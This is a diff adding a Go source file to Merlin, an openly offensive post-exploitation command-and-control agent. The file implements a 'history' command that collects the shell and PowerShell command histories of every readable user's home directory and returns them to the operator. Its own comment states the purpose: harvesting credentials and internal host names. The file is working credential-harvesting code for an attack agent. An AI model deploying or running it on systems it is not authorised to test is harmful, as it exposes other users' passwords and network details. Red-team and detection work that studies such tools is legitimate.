@@ -0,0 +1,111 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+// defaultHistoryCount is how many of the most recent commands are returned from each history file
+const defaultHistoryCount = 500
+
+// History collects the bash, zsh, fish, and other shell history files and the PowerShell PSReadLine console history
+// of every user whose home directory the agent can read and returns the most recent commands of each, which often
+// hold credentials passed on the command line and internal host names
+// history [count] [home directory...]
+func History(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering History() with %+v", cmd))
+	}
+	count := defaultHistoryCount
+	args := cmd.Args
+	if len(args) > 0 {
+		if n, err := strconv.Atoi(args[0]); err == nil {
+			if n < 1 {
+				results.Stderr = fmt.Sprintf("%s is not a valid number of commands", args[0])
+				return
+			}
+			count = n
+			args = args[1:]
+		}
+	}
+	homes := args
+	if len(homes) == 0 {
+		homes = homeDirectories()
+	}
+
+	var records []HistoryRecord
+	seen := make(map[string]bool)
+	collect := func(user, path string) {
+		if seen[path] {
+			return
+		}
+		seen[path] = true
+		info, err := os.Stat(path)
+		if err != nil {
+			return
+		}
+		commands := historyCommands(path)
+		record := HistoryRecord{User: user, Path: path, Modified: info.ModTime(), Total: len(commands), Commands: commands}
+		if len(commands) > count {
+			record.Commands = commands[len(commands)-count:]
+		}
+		records = append(records, record)
+	}
+	for _, home := range homes {
+		for _, path := range shellHistories(home) {
+			collect(filepath.Base(home), path)
+		}
+	}
+	// The agent's own shell may write its history somewhere other than the default
+	if path := os.Getenv("HISTFILE"); path != "" {
+		if home, err := os.UserHomeDir(); err == nil {
+			collect(filepath.Base(home), path)
+		}
+	}
+
+	if len(records) == 0 {
+		results.Stdout = "no shell or PowerShell history files were found"
+	} else {
+		var out strings.Builder
+		for _, record := range records {
+			fmt.Fprintf(&out, "==> %s %s (%d commands, last modified %s", record.User, record.Path, record.Total, record.Modified.Format("2006-01-02 15:04:05"))
+			if record.Total > len(record.Commands) {
+				fmt.Fprintf(&out, ", showing the last %d", len(record.Commands))
+			}
+			out.WriteString(")\n")
+			for _, command := range record.Commands {
+				out.WriteString(command + "\n")
+			}
+		}
+		results.Stdout = strings.TrimSuffix(out.String(), "\n")
+	}
+	structured = newStructured("history", records)
+	return
+}